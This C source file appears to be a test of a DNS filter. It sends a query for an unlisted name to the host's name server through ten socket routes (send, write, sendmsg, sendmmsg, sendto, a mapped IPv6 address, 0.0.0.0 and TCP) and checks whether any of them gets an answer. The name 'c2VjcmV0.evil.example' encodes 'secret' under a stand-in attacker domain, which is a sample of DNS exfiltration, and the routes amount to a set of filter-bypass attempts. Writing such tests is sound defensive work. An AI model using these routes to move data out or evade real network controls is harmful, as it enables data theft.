// A question for a name that no rule lists, towards the host's own name server, by each call that
// sends.
#define _GNU_SOURCE
#include "../names.h"

#define UNLISTED "c2VjcmV0.evil.example"

static long asked(int how) {
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct at to = at4(SERVER, 53);
  char text[512];
  const size_t size = ask(text, UNLISTED);
  struct iovec part = {text, size};
  struct mmsghdr many = {.msg_hdr = {.msg_iov = &part, .msg_iovlen = 1}};
  if (how >= 4) {
    many.msg_hdr.msg_name = &to.any;
    many.msg_hdr.msg_namelen = to.size;
  } else if (connect_to(fd, to) != 0) {
    return closed_after(fd, -1);
  }
  long status = -1;
  if (how == 0) status = send(fd, text, size, 0);
  if (how == 1) status = write(fd, text, size);
  if (how == 2 || how == 4) status = sendmsg(fd, &many.msg_hdr, 0);
  if (how == 3 || how == 5) status = sendmmsg(fd, &many, 1, 0);
  if (how == 6) status = sendto(fd, text, size, 0, &to.any, to.size);
  if (status < 0) return closed_after(fd, -1);
  return closed_after(fd, answered(fd));
}
static long try_connect_send(void) { return asked(0); }
static long try_connect_write(void) { return asked(1); }
static long try_connect_sendmsg(void) { return asked(2); }
static long try_connect_sendmmsg(void) { return asked(3); }
static long try_sendmsg(void) { return asked(4); }
static long try_sendmmsg(void) { return asked(5); }
static long try_sendto(void) { return asked(6); }
static long try_mapped(void) {
  const int fd = socket(AF_INET6, SOCK_DGRAM, 0);
  const struct at to = at6("::ffff:" SERVER, 53);
  char text[512];
  const size_t size = ask(text, UNLISTED);
  if (sendto(fd, text, size, 0, &to.any, to.size) < 0) return closed_after(fd, -1);
  return closed_after(fd, answered(fd));
}
static long try_any_address(void) {
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  const struct at to = at4("0.0.0.0", 53);
  char text[512];
  const size_t size = ask(text, UNLISTED);
  if (sendto(fd, text, size, 0, &to.any, to.size) < 0) return closed_after(fd, -1);
  return closed_after(fd, answered(fd));
}
static long try_tcp(void) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  char text[512];
  const size_t size = ask(text + 2, UNLISTED);
  text[0] = 0;
  text[1] = (char)size;
  if (connect_to(fd, at4(SERVER, 53)) != 0) return closed_after(fd, -1);
  if (write(fd, text, size + 2) < 0) return closed_after(fd, -1);
  const ssize_t got = read(fd, text, 1);
  if (got == 0) errno = ENODATA;
  return closed_after(fd, got == 1 ? 0 : -1);
}

#define ACT(name) \
  { #name, try_##name }
static const struct act acts[] = {
    ACT(connect_send), ACT(connect_write), ACT(connect_sendmsg), ACT(connect_sendmmsg),
    ACT(sendmsg),      ACT(sendmmsg),      ACT(sendto),          ACT(mapped),
    ACT(any_address),  ACT(tcp),           {NULL, NULL}};

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  return try_all(acts, argv + 1);
}
